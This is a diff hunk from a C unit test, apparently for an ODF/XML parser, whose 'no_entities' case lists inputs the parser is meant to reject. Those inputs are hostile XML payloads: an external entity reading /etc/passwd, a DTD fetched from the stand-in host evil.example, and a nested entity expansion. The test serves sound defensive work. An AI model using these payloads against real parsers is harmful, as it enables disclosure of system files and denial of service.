@@ -526,8 +526,8 @@ no_entities(void **state)
 	static const char *const all[] = {
 		"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
 		"<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">",
-		"<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b "
-		"\"&a;&a;&a;&a;&a;\">]>"
+		("<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b "
+		 "\"&a;&a;&a;&a;&a;\">]>")
 	};
 	struct odf *odf = NULL;
 	const char *text;
